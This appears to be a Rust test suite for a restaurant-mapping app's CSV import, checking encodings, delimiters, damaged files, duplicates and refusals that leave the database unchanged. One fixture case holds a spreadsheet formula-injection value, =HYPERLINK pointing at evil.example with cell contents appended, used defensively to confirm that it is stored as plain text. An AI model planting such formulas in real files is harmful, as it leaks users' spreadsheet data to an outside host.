//! The CSV import corpus (tests/fixtures/csv, written by make_fixtures.py): every awkward or
//! damaged file is either imported exactly as written, or refused with the line and column of
//! its first problem and the database left as it was, to the last byte of content.

use crate::support::{self, now, tablemap};
use rusqlite::types::Value;
use std::panic::{catch_unwind, AssertUnwindSafe};
use std::path::Path;
use tablemap_core::api::imports::{self, CsvImport, Located};
use tablemap_core::api::ApiError;
use tablemap_core::imports::duplicates::DuplicateAction;
use tablemap_core::imports::encoding::Encoding;
use tablemap_core::imports::CsvOptions;
use tablemap_core::store::Store;

const FIXTURES: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../tests/fixtures/csv/");
/// Too big to commit: built at test time (make_fixtures.py --huge writes the same bytes).
const HUGE: &str = "(built) huge_field.csv";

#[derive(Clone, Copy)]
struct Opts {
    encoding: Option<Encoding>,
    duplicates: DuplicateAction,
    /// `--map field=Header`
    map: &'static [&'static str],
    dry_run: bool,
}

const PLAIN: Opts = Opts { encoding: None, duplicates: DuplicateAction::Skip, map: &[], dry_run: false };
const AS_UTF8: Opts = Opts { encoding: Some(Encoding::Utf8), ..PLAIN };
const UPDATE: Opts = Opts { duplicates: DuplicateAction::Update, ..PLAIN };
const ADD: Opts = Opts { duplicates: DuplicateAction::Add, ..PLAIN };
const DRY_RUN: Opts = Opts { dry_run: true, ..PLAIN };

enum Want {
    /// The summary's counts; then (unless a dry run, which must keep nothing) what is stored.
    Imported { added: usize, updated: usize, skipped: usize, stored: &'static [Stored] },
    /// Refused at this line and column (a character when the damage is below the fields), with
    /// these words in the message; nothing changed.
    Refused { line: usize, column: usize, says: &'static [&'static str] },
    /// The columns cannot import anything as chosen: the person must choose again.
    Unusable { says: &'static [&'static str] },
}

enum Stored {
    /// The one restaurant with exactly this name has this value in this column (`NULL`: none).
    Has(&'static str, &'static str, &'static str),
    /// No value anywhere in the database contains this text.
    Nowhere(&'static str),
}

fn ok(added: usize, updated: usize, skipped: usize, stored: &'static [Stored]) -> Want {
    Want::Imported { added, updated, skipped, stored }
}

fn refused(line: usize, column: usize, says: &'static [&'static str]) -> Want {
    Want::Refused { line, column, says }
}

#[rustfmt::skip]
fn cases() -> Vec<(&'static str, Opts, Want)> {
    use Stored::{Has, Nowhere};
    vec![
        // Encodings: detected, or chosen wrongly and refused where the bytes stop making sense.
        ("utf8_plain.csv", PLAIN, ok(3, 0, 0, &[Has("Café Zahlé", "postcode", "M1 1JN"), Has("Mangal Ocakbaşı", "cuisines", "turkish;grill"), Has("Jollof Pot", "website", "https://jollofpot.example/menu")])),
        ("utf8_bom.csv", PLAIN, ok(2, 0, 0, &[Has("Crêpes & Co", "postcode", "M1 5JQ"), Has("Sushi Ōsaka", "lat", "53.4812")])),
        ("windows1252.csv", PLAIN, ok(3, 0, 0, &[Has("Brasserie “Chez Rémi”", "address", "10 Rue de l’Église"), Has("Brasserie “Chez Rémi”", "opening_hours", "Mo-Sa 12:00–22:00"), Has("Café Ümit", "opening_hours", "Menu du jour €9.50"), Has("Crème Brûlée – Pâtisserie", "postcode", "M2 6AG")])),
        ("windows1252.csv", AS_UTF8, refused(2, 11, &["0x93", "Windows-1252"])),
        ("utf16le_bom.csv", PLAIN, ok(2, 0, 0, &[Has("Zahlé ☕ Coffee", "lat", "53.4815"), Has("Zahlé ☕ Coffee", "languages", "Arabic;French"), Has("Dönerci", "lon", "-2.2392")])),
        ("utf16le_bom.csv", AS_UTF8, refused(1, 1, &["UTF-16"])),
        ("utf16be_bom.csv", PLAIN, ok(2, 0, 0, &[Has("Łódź Pierogi", "postcode", "M4 1HN"), Has("Ελληνικό Τραπέζι", "postcode", "M4 2BS")])),
        ("utf16le_no_bom.csv", PLAIN, ok(2, 0, 0, &[Has("Bánh Mì Co", "postcode", "M1 1AF"), Has("Señor Taco", "lon", "-2.235")])),
        ("utf16le_truncated.csv", PLAIN, refused(3, 24, &["cut short"])),
        // Line ends.
        ("crlf.csv", PLAIN, ok(2, 0, 0, &[Has("Pho Viet", "address", "Unit 4\nArndale Market"), Has("Tandoori Nights", "postcode", "M14 5TQ")])),
        ("bare_cr.csv", PLAIN, ok(2, 0, 0, &[Has("Wok Express", "postcode", "M1 4BT"), Has("Noodle Bar", "lon", "-2.2365")])),
        ("bare_cr_windows1252.csv", PLAIN, ok(2, 0, 0, &[Has("Bäckerei Müller", "postcode", "M3 1HU"), Has("Café Noël", "postcode", "M3 2BW")])),
        ("bare_cr_windows1252.csv", AS_UTF8, refused(2, 2, &["0xE4"])),
        // Delimiters.
        ("semicolon_decimal_comma.csv", PLAIN, ok(2, 0, 0, &[Has("Zum Löwen", "lat", "51.5"), Has("Zum Löwen", "lon", "-2.58"), Has("Zum Löwen", "address", "Königstraße 1, Bristol"), Has("Le Comptoir", "address", "12 Rue \"Haute\"; Bristol")])),
        ("tab_delimited.tsv", PLAIN, ok(2, 0, 0, &[Has("Little Lagos", "address", "4 Hyde Road, Manchester"), Has("Kabul Kitchen", "lat", "53.4612")])),
        ("pipe_delimited.csv", PLAIN, ok(2, 0, 0, &[Has("Mama's Kitchen", "address", "1 High Street, Leeds"), Has("Leeds \"Best\" Pizza", "postcode", "LS1 6DT")])),
        ("excel_sep_line.csv", PLAIN, ok(1, 0, 0, &[Has("Brasserie Nord", "lat", "53.486")])),
        // Quoting, blank lines, scripts, formulas.
        ("quoted_fields.csv", PLAIN, ok(3, 0, 0, &[Has("Sam's \"Famous\" Chippy, Since 1952", "address", "Unit 3, Arndale Market"), Has("Dough, Re, Mi", "address", "Unit 7\nAfflecks\nTib Street"), Has("Dough, Re, Mi", "website", "https://doremi.example/?a=1,2"), Has("Noodle Box", "address", "NULL")])),
        ("blank_lines_trailing_empty.csv", PLAIN, ok(2, 0, 0, &[Has("Green Bowl", "postcode", "M1 2HF"), Has("Red Chilli", "postcode", "M1 3HA")])),
        ("scripts_rtl.csv", PLAIN, ok(4, 0, 0, &[Has("مطعم الشام", "postcode", "M14 5TP"), Has("ሐበሻ ምግብ ቤት", "languages", "Amharic;Tigrinya"), Has("ঢাকা কিচেন", "postcode", "M14 5TD"), Has("Café بيروت Beirut", "address", "80 Oxford Road")])),
        ("emoji.csv", PLAIN, ok(3, 0, 0, &[Has("🍕 Pizza Napoli 🇮🇹", "cuisines", "pizza"), Has("Bao Bar 🥟", "cuisines", "chinese"), Has("👩‍🍳 Mama Ngozi's", "cuisines", "nigerian")])),
        ("formula_name.csv", PLAIN, ok(3, 0, 0, &[Has("=HYPERLINK(\"http://evil.example/?q=\"&A1,\"Menu\")", "phone", "+44 161 496 0001"), Has("@Home Café", "postcode", "M1 1AB"), Has("-20% Pizza", "phone", "=1+1")])),
        ("tablemap_export.csv", PLAIN, ok(2, 0, 0, &[Has("@Home Kitchen", "lon", "-2.2426"), Has("@Home Kitchen", "phone", "+44 161 496 0999"), Has("@Home Kitchen", "address", "1 Deansgate, Manchester"), Has("Kabul Nights", "lon", "-2.2401")])),
        // Headers.
        ("header_whitespace_case.csv", PLAIN, ok(1, 0, 0, &[Has("The Old Bell", "address", "4 Market Street"), Has("The Old Bell", "postcode", "M1 1PW"), Has("The Old Bell", "website", "oldbell.example")])),
        ("headers_french.csv", PLAIN, ok(1, 0, 0, &[Has("Chez Françoise", "address", "14 Tib Street, Manchester"), Has("Chez Françoise", "cuisines", "française"), Has("Chez Françoise", "phone", "0161 496 0123"), Has("Chez Françoise", "website", "chezfrancoise.example"), Has("Chez Françoise", "opening_hours", "Tu-Sa 12:00-22:00"), Nowhere("Sénégal")])),
        ("headers_french.csv", Opts { map: &["cuisines=nationalité"], ..PLAIN }, Want::Unusable { says: &["never stores"] }),
        ("nationality_column.csv", PLAIN, ok(2, 0, 0, &[Has("Addis Café", "postcode", "M1 2WX"), Nowhere("Eritrea"), Nowhere("Syria"), Nowhere("Orthodox"), Nowhere("Muslim")])),
        ("nationality_column.csv", Opts { map: &["cuisines=Nationality"], ..PLAIN }, Want::Unusable { says: &["never stores", "Nationality"] }),
        ("duplicate_headers.csv", PLAIN, refused(1, 3, &["Address", "also column 2"])),
        ("no_name_column.csv", PLAIN, Want::Unusable { says: &["restaurant's name"] }),
        ("no_name_column.csv", Opts { map: &["name=Business Type"], ..PLAIN }, ok(1, 0, 0, &[Has("Green Bowl", "postcode", "M1 3BE")])),
        // Nothing to import.
        ("empty.csv", PLAIN, refused(1, 1, &["empty"])),
        ("header_only.csv", PLAIN, refused(2, 1, &["no rows"])),
        ("only_blank_lines.csv", PLAIN, refused(1, 1, &["empty"])),
        // Damaged structure.
        ("ragged_too_few.csv", PLAIN, refused(3, 5, &["4 fields", "missing"])),
        ("ragged_too_many.csv", PLAIN, refused(4, 6, &["6 fields", "quotes"])),
        ("unbalanced_quote.csv", PLAIN, refused(7, 1, &["never closed"])),
        ("text_after_quote.csv", PLAIN, refused(3, 1, &["doubled"])),
        ("nul_byte.csv", PLAIN, refused(3, 4, &["NUL"])),
        // The 10 MB value starts on line 3 and runs over 130,000 lines: the message names line 3.
        (HUGE, PLAIN, refused(3, 2, &["longer than 1 MB"])),
        // Values Tablemap cannot keep.
        ("latitude_out_of_range.csv", PLAIN, refused(4, 4, &["latitude 153.477", "outside"])),
        ("longitude_out_of_range.csv", PLAIN, refused(3, 5, &["longitude -223.8", "outside"])),
        ("garbled_coordinates.csv", PLAIN, refused(3, 3, &["53°28'37\"N", "decimal degrees"])),
        ("one_coordinate.csv", PLAIN, refused(2, 4, &["both"])),
        ("postcodes_no_coordinates.csv", PLAIN, refused(3, 3, &["M13 9PL", "look positions up", "1 more"])),
        ("missing_name.csv", PLAIN, refused(4, 1, &["needs a name"])),
        ("website_not_url.csv", PLAIN, refused(3, 5, &["web address"])),
        ("name_too_long.csv", PLAIN, refused(2, 1, &["longer than 200"])),
        // Duplicates, dry runs and size.
        ("duplicate_rows.csv", PLAIN, ok(2, 0, 1, &[Has("Green Bowl", "cuisines", "vegan")])),
        ("duplicate_rows.csv", UPDATE, ok(2, 1, 0, &[Has("Green Bowl", "cuisines", "vegan;salads")])),
        ("duplicate_rows.csv", ADD, ok(3, 0, 0, &[])),
        ("duplicate_rows.csv", DRY_RUN, ok(2, 0, 1, &[])),
        ("utf8_plain.csv", DRY_RUN, ok(3, 0, 0, &[])),
        ("matches_demo.csv", PLAIN, ok(1, 0, 1, &[Has("Sylhet Express", "phone", "NULL"), Has("Sylhet Express", "status", "agreed"), Has("Brick Lane Bagels", "postcode", "E1 6SB")])),
        ("matches_demo.csv", UPDATE, ok(1, 1, 0, &[Has("Sylhet Express", "phone", "020 7946 0011"), Has("Sylhet Express", "address", "182 Whitechapel Road, Tower Hamlets"), Has("Sylhet Express", "status", "agreed")])),
        ("five_thousand_rows.csv", PLAIN, ok(5000, 0, 0, &[Has("Lalibela Café 1", "lon", "-2.3985"), Has("Anatolia Grill 5000", "lat", "53.35")])),
    ]
}

fn fixture(name: &str) -> Vec<u8> {
    if name == HUGE {
        let field = format!("{}\n", "x".repeat(79)).repeat(10 * 1024 * 1024 / 80);
        return format!(
            "name,address,postcode,lat,lon\nGreen Bowl,1 Portland Street,M1 3BE,53.47900,-2.23600\n\
             Red Chilli,\"{field}\",M1 4GU,53.47700,-2.23800\n"
        )
        .into_bytes();
    }
    support::fixture(&format!("csv/{name}"))
}

/// A database with something to lose: the first 12 demo restaurants, with visits and statuses.
fn seeded() -> Store {
    let mut store = Store::open_in_memory().expect("store");
    tablemap_core::demo::seed(&mut store, 12, tablemap_core::demo::DEFAULT_SEED, now()).expect("demo");
    store
}

/// Every row of every table (FTS shadow tables included), as text, sorted within each table.
fn snapshot(store: &Store) -> Vec<String> {
    let conn = store.conn();
    let mut stmt =
        conn.prepare("SELECT name FROM sqlite_master WHERE type = 'table' ORDER BY name").expect("tables");
    let tables: Vec<String> =
        stmt.query_map([], |r| r.get(0)).expect("tables").map(|t| t.expect("name")).collect();
    let mut out = Vec::new();
    for t in tables {
        let mut stmt = conn.prepare(&format!("SELECT * FROM \"{t}\"")).expect("select");
        let n = stmt.column_count();
        let mut rows: Vec<String> = stmt
            .query_map([], |r| (0..n).map(|i| r.get::<_, Value>(i)).collect::<Result<Vec<_>, _>>())
            .expect("rows")
            .map(|row| format!("{t} {:?}", row.expect("row")))
            .collect();
        rows.sort();
        out.extend(rows);
    }
    out
}

fn restaurant_count(store: &Store) -> usize {
    store.conn().query_row("SELECT count(*) FROM restaurants", [], |r| r.get::<_, i64>(0)).expect("count")
        as usize
}

fn first_difference(before: &[String], after: &[String]) -> String {
    let gone = before.iter().find(|r| !after.contains(r));
    let new = after.iter().find(|r| !before.contains(r));
    format!("{} rows before, {} after; first gone: {gone:?}; first new: {new:?}", before.len(), after.len())
}

fn check_stored(store: &Store, s: &Stored, all: &[String]) -> Result<(), String> {
    match s {
        Stored::Has(name, column, want) => {
            let sql = format!(
                "SELECT CAST({column} AS TEXT) FROM restaurants r \
                 JOIN restaurant_status s ON s.restaurant_id = r.id WHERE r.name = ?1"
            );
            let mut stmt = store.conn().prepare(&sql).map_err(|e| e.to_string())?;
            let got: Vec<Option<String>> = stmt
                .query_map([name], |r| r.get(0))
                .map_err(|e| e.to_string())?
                .map(|v| v.expect("value"))
                .collect();
            match got.as_slice() {
                [value] if value.as_deref().unwrap_or("NULL") == *want => Ok(()),
                [value] => Err(format!("{name:?}.{column} is {value:?}, want {want:?}")),
                _ => {
                    let mut stmt = store
                        .conn()
                        .prepare("SELECT name FROM restaurants ORDER BY created_at DESC LIMIT 8")
                        .expect("names");
                    let names: Vec<String> =
                        stmt.query_map([], |r| r.get(0)).expect("names").map(|n| n.expect("name")).collect();
                    Err(format!("{} restaurants named {name:?}; newest names: {names:?}", got.len()))
                }
            }
        }
        Stored::Nowhere(text) => match all.iter().find(|row| row.contains(text)) {
            Some(row) => Err(format!("{text:?} was stored: {row}")),
            None => Ok(()),
        },
    }
}

/// Runs one case; the error says what went wrong.
fn run_case(file: &str, opts: Opts, want: &Want) -> Result<(), String> {
    let bytes = fixture(file);
    let mut store = seeded();
    let before = snapshot(&store);
    let options =
        CsvOptions { encoding: opts.encoding, delimiter: None, mapping: None, duplicates: opts.duplicates };
    let overrides: Vec<String> = opts.map.iter().map(|m| m.to_string()).collect();
    let located = Located::new();
    let mut last_progress = None;
    let result = catch_unwind(AssertUnwindSafe(|| {
        let job = CsvImport {
            bytes: &bytes,
            options: &options,
            overrides: &overrides,
            located: &located,
            looked_up: false,
            dry_run: opts.dry_run,
            now: now(),
        };
        imports::import_csv(&mut store, job, &mut |done, total| {
            last_progress = Some((done, total));
            true
        })
    }))
    .map_err(|_| "the import panicked".to_string())?;
    let after = snapshot(&store);
    let unchanged = || {
        if before == after {
            Ok(())
        } else {
            Err(format!("the database changed: {}", first_difference(&before, &after)))
        }
    };
    // What the wizard shows for the same file (it has no `--map`).
    let preview = opts.map.is_empty().then(|| imports::preview(&store, &bytes, &options, &located));

    match (want, result) {
        (Want::Imported { added, updated, skipped, stored }, Ok(s)) => {
            if (s.added, s.updated, s.skipped) != (*added, *updated, *skipped) {
                return Err(format!(
                    "added/updated/skipped {:?}, want {:?}",
                    (s.added, s.updated, s.skipped),
                    (added, updated, skipped)
                ));
            }
            if s.rows != added + updated + skipped || last_progress != Some((s.rows as u32, s.rows as u32)) {
                return Err(format!("{} rows, last progress {last_progress:?}", s.rows));
            }
            if opts.dry_run {
                return unchanged();
            }
            let kept_before = before.iter().filter(|r| !r.starts_with("restaurants_fts"));
            if *updated == 0 {
                if let Some(row) = kept_before.clone().find(|r| !after.contains(r)) {
                    return Err(format!("a restaurant that was there changed: {row}"));
                }
            }
            if restaurant_count(&store) != 12 + added {
                return Err(format!("{} restaurants after adding {added} to 12", restaurant_count(&store)));
            }
            for s in stored.iter() {
                check_stored(&store, s, &after)?;
            }
            match preview {
                Some(Ok(p))
                    if p.file_problem.is_some()
                        || p.mapping_problem.is_some()
                        || p.problem_rows > 0
                        || p.rows != s.rows =>
                {
                    Err(format!(
                        "the import went through but the preview shows problems: {:?} {:?} {:?}",
                        p.file_problem, p.mapping_problem, p.first_problem
                    ))
                }
                Some(Err(e)) => Err(format!("the preview failed: {e}")),
                _ => Ok(()),
            }
        }
        (Want::Refused { line, column, says }, Err(ApiError::BadFile(p))) => {
            unchanged()?;
            let message = p.to_string();
            let place = [format!("line {line}, column {column}"), format!("line {line}, character {column}")];
            if (p.line, p.column) != (*line, *column) || !place.iter().any(|at| message.contains(at.as_str()))
            {
                return Err(format!("refused at the wrong place: {message}"));
            }
            if let Some(missing) = says.iter().find(|w| !message.contains(*w)) {
                return Err(format!("the message does not say {missing:?}: {message}"));
            }
            match preview {
                Some(Ok(pv)) => {
                    let shown =
                        pv.first_problem.as_ref().map(|p| (p.line, p.column)) == Some((*line, *column));
                    let to_look_up = pv.sample.iter().any(|r| r.line == *line && r.needs_lookup);
                    if shown || to_look_up {
                        Ok(())
                    } else {
                        Err(format!("the preview points elsewhere: {:?}", pv.first_problem))
                    }
                }
                Some(Err(e)) => Err(format!("the preview failed: {e}")),
                None => Ok(()),
            }
        }
        (Want::Unusable { says }, Err(e @ ApiError::Invalid(_))) => {
            unchanged()?;
            let message = e.to_string();
            match says.iter().find(|w| !message.contains(*w)) {
                Some(missing) => Err(format!("the message does not say {missing:?}: {message}")),
                None => Ok(()),
            }
        }
        (_, Ok(s)) => Err(format!(
            "imported (added {}, updated {}, skipped {}) but should not have been",
            s.added, s.updated, s.skipped
        )),
        (_, Err(e)) => Err(format!("failed with {e:?}")),
    }
}

#[test]
fn every_file_in_the_corpus_is_imported_exactly_or_refused_changing_nothing() {
    let mut failures = Vec::new();
    for (file, opts, want) in cases() {
        if let Err(why) = run_case(file, opts, &want) {
            failures.push(format!("{file} ({}): {why}", describe(opts)));
        }
    }
    assert!(failures.is_empty(), "{} cases failed:\n{}", failures.len(), failures.join("\n"));
}

fn describe(o: Opts) -> String {
    format!(
        "encoding {:?}, duplicates {:?}, map {:?}{}",
        o.encoding,
        o.duplicates,
        o.map,
        if o.dry_run { ", dry run" } else { "" }
    )
}

#[test]
fn the_corpus_is_complete_and_small() {
    let mut names: Vec<String> = std::fs::read_dir(FIXTURES)
        .expect("fixtures")
        .map(|e| e.expect("entry").file_name().to_string_lossy().into_owned())
        .filter(|n| !n.ends_with(".py"))
        .collect();
    names.sort();
    let tested: Vec<&str> = cases().iter().map(|c| c.0).collect();
    let untested: Vec<&String> = names.iter().filter(|n| !tested.contains(&n.as_str())).collect();
    assert!(untested.is_empty(), "files with no case: {untested:?}");
    assert!(names.len() >= 34, "{} files", names.len());
    let bytes: u64 =
        names.iter().map(|n| std::fs::metadata(Path::new(FIXTURES).join(n)).expect("size").len()).sum();
    assert!(bytes < 1024 * 1024, "{bytes} bytes committed");
}

/// (arguments after `import csv`, exit code, words on stdout, words on stderr, restaurants after)
type CliCase = (&'static [&'static str], i32, &'static [&'static str], &'static [&'static str], usize);

#[test]
fn the_cli_prints_the_counts_or_the_line_and_column() {
    let dir = tempfile::tempdir().expect("dir");
    let db = dir.path().join("t.sqlite");
    assert_eq!(tablemap(&db, &["demo", "--restaurants", "12"]).code, 0);
    let path = |name: &str| format!("{FIXTURES}{name}");
    #[rustfmt::skip]
    let cases: &[CliCase] = &[
        (&["--dry-run", "duplicate_rows.csv"], 0, &["dry run, nothing kept", "added 2, updated 0, skipped 1"], &[], 12),
        (&["latitude_out_of_range.csv"], 1, &[], &["latitude_out_of_range.csv", "line 4, column 4 (lat)", "outside", "nothing was imported"], 12),
        (&["--encoding", "utf-8", "windows1252.csv"], 1, &[], &["line 2, character 11", "Windows-1252"], 12),
        (&["postcodes_no_coordinates.csv"], 1, &[], &["line 3, column 3 (postcode)", "look positions up"], 12),
        (&["utf8_plain.csv"], 0, &["3 rows: added 3, updated 0, skipped 0"], &[], 15),
        (&["--duplicates", "update", "duplicate_rows.csv"], 0, &["added 2, updated 1, skipped 0"], &[], 17),
        (&["utf8_plain.csv"], 0, &["added 0, updated 0, skipped 3"], &[], 17),
    ];
    for (args, code, out, err, count) in cases {
        let file = path(args[args.len() - 1]);
        let mut line = vec!["import", "csv"];
        line.extend(&args[..args.len() - 1]);
        line.push(&file);
        let r = tablemap(&db, &line);
        assert_eq!(r.code, *code, "{args:?}: {} {}", r.stdout, r.stderr);
        for w in *out {
            assert!(r.stdout.contains(w), "{args:?}: stdout {:?} lacks {w:?}", r.stdout);
        }
        for w in *err {
            assert!(r.stderr.contains(w), "{args:?}: stderr {:?} lacks {w:?}", r.stderr);
        }
        let listed = tablemap(&db, &["restaurants", "list", "--format", "json"]);
        let listed: serde_json::Value = serde_json::from_str(&listed.stdout).expect("json");
        assert_eq!(listed.as_array().map(Vec::len), Some(*count), "{args:?}");
    }
}
